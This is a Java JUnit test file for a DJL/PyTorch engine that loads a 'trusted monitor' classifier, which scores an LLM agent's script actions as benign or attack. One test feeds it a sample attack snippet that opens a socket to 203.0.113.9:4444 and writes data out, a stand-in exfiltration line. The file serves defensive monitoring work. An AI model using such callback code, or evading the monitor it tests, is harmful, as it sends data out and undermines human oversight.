package org.alignlab.inference.djl;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.data.Offset.offset;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.alignlab.inference.engine.LoadedModel;
import org.alignlab.inference.engine.ModelFolder;
import org.alignlab.inference.engine.ModelLoadException;
import org.alignlab.inference.engine.ModelMetadata;
import org.alignlab.inference.engine.NetworkSpec;
import org.alignlab.inference.engine.Tensor;
import org.alignlab.inference.engine.TensorSpec;
import org.alignlab.inference.features.FeatureSpec;
import org.alignlab.inference.features.TextClassifier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Real DJL PyTorch on the shipped trusted monitor and a TorchScript model, as inference and training load them. */
class DjlModelEngineTest {

    /** The shipped model folder (models/trusted-monitor builds it), relative to the module directory. */
    static final Path SHIPPED = Path.of("../../models/trusted-monitor/model-store/trusted-monitor");
    /** A TorchScript file written by PyTorch (src/test/resources/torchscript/make_affine.py): y = x W + b. */
    static final Path AFFINE = Path.of("src/test/resources/torchscript/affine");

    private final DjlModelEngine engine = new DjlModelEngine(2, Duration.ofSeconds(5), "auto");

    @TempDir
    Path dir;

    @Test
    void theShippedModelLoadsAndScoresCodeThatOpensASocketAboveHonestCode() {
        ModelMetadata metadata = ModelFolder.servedMetadata(SHIPPED).orElseThrow();
        try (LoadedModel model = engine.load(SHIPPED, metadata)) {
            TextClassifier classifier = TextClassifier.of("trusted-monitor", metadata, model::forward);
            Map<String, Double> honest = classifier.classify(script("double s = 0; for (int i = 1; i < 10; i++) "
                    + "s += 1.0 / i; System.out.println(\"harmonic \" + s);"));
            Map<String, Double> socket = classifier.classify(script("try (var s = new java.net.Socket(\"203.0.113.9\", "
                    + "4444)) { s.getOutputStream().write(\"done\".getBytes()); }"));

            assertThat(ModelFolder.checkedVersion(SHIPPED, metadata)).isEqualTo(metadata.version());
            assertThat(engine.device()).isEqualTo("cpu()");
            assertThat(honest.keySet()).containsExactly("benign", "attack");
            assertThat(honest.get("benign") + honest.get("attack")).isCloseTo(1.0, offset(1e-5));
            assertThat(socket.get("attack")).isGreaterThan(honest.get("attack"));
        }
    }

    @Test
    void weightsThatDoNotFitTheDeclaredFeaturesFailToLoad() throws IOException {
        Path copy = copyOfShipped();
        ModelMetadata shipped = ModelFolder.servedMetadata(copy).orElseThrow();
        ModelMetadata wrongDimension = ModelMetadata.textClassifier(shipped.name(), shipped.engine(),
                shipped.labels(), shipped.weights(), shipped.version(),
                new FeatureSpec(FeatureSpec.HASHED_NGRAMS_V1, 1024, 2, 3, 5), shipped.network());

        assertThatThrownBy(() -> engine.load(copy, wrongDimension)).isInstanceOf(ModelLoadException.class)
                .hasMessageContaining("do not fit the declared inputs [features float32[n, 1024]]");
    }

    @Test
    void missingWeightsOrAnotherEngineFailToLoad() throws IOException {
        Path copy = copyOfShipped();
        ModelMetadata shipped = ModelFolder.servedMetadata(copy).orElseThrow();
        ModelMetadata tensorFlow = ModelMetadata.textClassifier(shipped.name(), "TensorFlow", shipped.labels(),
                shipped.weights(), shipped.version(), shipped.features(), shipped.network());
        Files.delete(copy.resolve(shipped.weights()));

        assertThatThrownBy(() -> engine.load(copy, tensorFlow)).isInstanceOf(ModelLoadException.class)
                .hasMessageContaining("TensorFlow");
        assertThatThrownBy(() -> engine.load(copy, shipped)).isInstanceOf(ModelLoadException.class)
                .hasMessageContaining(shipped.weights());
        assertThatThrownBy(() -> new NetworkSpec("transformer", 16)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void aTorchScriptFileLoadsAndComputesWhatPyTorchComputedInBatches() {
        ModelMetadata metadata = ModelFolder.servedMetadata(AFFINE).orElseThrow();
        try (LoadedModel model = engine.load(AFFINE, metadata)) {
            List<Tensor> outputs = model.forward(List.of(Tensor.float32("x", new long[] {2, 4},
                    new float[] {1, 1, 1, 1, 0, 0, 0, 0})));

            assertThat(outputs).singleElement().satisfies(y -> {
                assertThat(y.name()).isEqualTo("y");
                assertThat(y.shape()).containsExactly(2, 3);
                assertThat((float[]) y.data()).containsExactly(2.5f, 3.5f, 1.0f, 0.0f, 1.0f, -1.0f);
            });
        }
    }

    @Test
    void aTorchScriptFileThatDoesNotFitItsDeclaredSignatureFailsToLoad() {
        ModelMetadata declared = ModelFolder.servedMetadata(AFFINE).orElseThrow();
        ModelMetadata wrongInput = new ModelMetadata(declared.name(), declared.task(), declared.engine(), null,
                declared.weights(), null, null, null,
                List.of(new TensorSpec("x", declared.inputs().get(0).dtype(), new long[] {-1, 5})), declared.outputs());
        ModelMetadata wrongOutput = new ModelMetadata(declared.name(), declared.task(), declared.engine(), null,
                declared.weights(), null, null, null, declared.inputs(),
                List.of(new TensorSpec("y", declared.outputs().get(0).dtype(), new long[] {-1, 2})));

        assertThatThrownBy(() -> engine.load(AFFINE, wrongInput)).isInstanceOf(ModelLoadException.class)
                .hasMessageContaining("do not fit the declared inputs");
        assertThatThrownBy(() -> engine.load(AFFINE, wrongOutput)).isInstanceOf(ModelLoadException.class)
                .hasMessageContaining("metadata declares [n, 2]");
    }

    /**
     * Forward passes that fail inside PyTorch (a feature vector of the wrong width, as no request can send it) next
     * to ones that succeed: afterwards every predictor made is idle again, and the model still answers.
     */
    @Test
    void everyPredictorIsBackInThePoolAfterFailedForwardPasses() throws Exception {
        ModelMetadata metadata = ModelFolder.servedMetadata(SHIPPED).orElseThrow();
        int width = metadata.features().dimension();
        DjlLoadedModel model = (DjlLoadedModel) engine.load(SHIPPED, metadata);
        ExecutorService callers = Executors.newFixedThreadPool(8);
        try {
            List<Future<List<Tensor>>> calls = new ArrayList<>();
            for (int i = 0; i < 40; i++) {
                int columns = i % 2 == 0 ? width : width - 1;
                calls.add(callers.submit(() -> model.forward(List.of(
                        Tensor.float32(ModelMetadata.FEATURES, new long[] {1, columns}, new float[columns])))));
            }
            int failed = 0;
            for (Future<List<Tensor>> call : calls) {
                try {
                    call.get(30, TimeUnit.SECONDS);
                } catch (ExecutionException e) {
                    failed++;
                }
            }

            assertThat(failed).isEqualTo(20);
            assertThat(model.predictors().created()).isBetween(1, 2);
            assertThat(model.predictors().idle()).isEqualTo(model.predictors().created());
            assertThat(model.forward(List.of(Tensor.float32(ModelMetadata.FEATURES, new long[] {1, width},
                    new float[width])))).hasSize(1);
        } finally {
            callers.shutdownNow();
            model.close();
        }
    }

    private Path copyOfShipped() throws IOException {
        Path copy = Files.createDirectories(dir.resolve("trusted-monitor"));
        try (var files = Files.list(SHIPPED)) {
            for (Path file : files.toList()) {
                Files.copy(file, copy.resolve(file.getFileName()));
            }
        }
        return copy;
    }

    /** The canonical JSON of a script action, shaped as the monitor sends it. */
    static String script(String body) {
        String source = "public class Main {\\n    public static void main(String[] args) throws Exception {\\n        "
                + body.replace("\"", "\\\"") + "\\n    }\\n}\\n";
        return "{\"agent\":\"ideation\",\"createdAt\":\"2026-02-01T10:00:00Z\","
                + "\"goalId\":\"0b6a3f5e-2c1d-4e8f-9a7b-6c5d4e3f2a1b\",\"hypothesis\":\"A quick check of the "
                + "statistic the review will apply.\",\"id\":\"5f0e1d2c-3b4a-4958-8776-a5b4c3d2e1f0\","
                + "\"policy\":\"llm\",\"round\":2,\"spec\":{\"family\":\"script\",\"params\":{},\"resources\":"
                + "{\"cpuSeconds\":120,\"memoryMb\":1024,\"wallSeconds\":300},\"script\":\"" + source
                + "\",\"seeds\":[1],\"split\":\"validation\"},\"type\":\"RUN_SCRIPT\"}";
    }
}
